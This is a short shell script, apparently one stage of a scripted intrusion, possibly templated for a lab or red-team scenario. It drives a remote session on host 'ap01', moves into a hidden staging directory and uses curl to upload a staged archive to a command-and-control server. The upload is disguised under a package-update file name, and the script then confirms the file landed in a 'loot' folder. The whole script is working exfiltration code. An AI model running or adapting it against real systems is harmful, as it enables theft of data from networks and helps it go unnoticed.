#!/bin/sh
# Stage 3: send the staged archive out from ap01 (the core segment's update path reaches the internet).
. /root/ops/common.sh
vpn_access || { log "exfil: no way through the VPN"; exit 1; }
log "exfil from ap01"
typed <<CMDS | to_ap01 120 > "$OPS/session-exfil.log" 2>&1
cd /var/tmp/.mis-cache
curl -s -m 60 --data-binary @pkg-update-{{stage_id}}.tgz "$C2/upload?name=kaede-pkg-update-{{stage_id}}.tgz"
cd
exit
CMDS
log "exfil done rc=$?"
ls /var/lib/c2/loot/ | grep -q kaede-pkg-update
